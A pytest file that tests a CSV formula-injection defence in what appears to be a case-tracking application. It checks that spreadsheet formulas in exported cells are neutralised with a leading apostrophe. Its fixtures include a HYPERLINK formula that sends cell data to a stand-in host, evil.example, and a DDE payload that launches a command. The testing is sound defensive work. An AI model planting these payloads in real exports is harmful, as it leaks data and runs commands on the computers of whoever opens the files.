"""One safe CSV writer: every CSV written from people's text opens in a spreadsheet as text."""

import csv
import io
import pathlib

import pytest

from core import csvsafe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text(text):
    out = io.StringIO()
    csvsafe.writer(out).writerow([text, 5, None])
    cell, number, empty = next(csv.reader(io.StringIO(out.getvalue())))
    assert cell == "'" + text
    assert (number, empty) == ("5", "")


@pytest.mark.parametrize("text", ["Sheriff Hennessey", "2010-06-08", "a=b", "letters/1.pdf", ""])
def test_plain_text_is_written_as_it_is(text):
    assert csvsafe.defuse(text) == text


def test_no_module_writes_csv_but_through_the_safe_writer():
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        parts = path.relative_to(root).parts
        if (
            parts[0] in {".venv", "tests", "bench", "scripts", "node_modules"}
            or "migrations" in parts
        ):
            continue
        text = path.read_text(encoding="utf-8")
        if ("csv.writer(" in text or "csv.DictWriter(" in text) and path.name != "csvsafe.py":
            offenders.append(str(path.relative_to(root)))
    # /cases.csv streams through its own csv.writer, each person's cell defused by core.csvsafe.
    assert offenders == ["public/views.py"]
    assert "csvsafe.defuse" in (root / "public/views.py").read_text(encoding="utf-8")


def test_the_originals_zip_defuses_the_timeline_the_log_and_the_index(db):
    import datetime
    import zipfile
    from types import SimpleNamespace

    from correspondence.exports.originals import case_file_zip

    evil = '=HYPERLINK("http://evil.example","x")'
    event = SimpleNamespace(
        occurred_on=datetime.date(2010, 6, 3),
        date_precision="day",
        get_kind_display=lambda: "Note",
        summary=evil,
        source="@source",
        is_public=True,
    )
    entry = SimpleNamespace(
        occurred_on=datetime.date(2010, 6, 3),
        get_direction_display=lambda: "Received",
        get_method_display=lambda: "Letter",
        sender="+ICE",
        recipient="-Sheriff",
        summary=evil,
        is_public=True,
        attachments=SimpleNamespace(all=lambda: []),
    )
    content = case_file_zip(
        bundle={"documents_all": [], "timeline": [event], "correspondence": [entry]}
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        timeline = list(csv.reader(io.StringIO(archive.read("timeline.csv").decode())))
        log = list(csv.reader(io.StringIO(archive.read("correspondence.csv").decode())))
    assert timeline[1][3] == "'" + evil and timeline[1][4] == "'@source"
    assert log[1][3:6] == ["'+ICE", "'-Sheriff", "'" + evil]
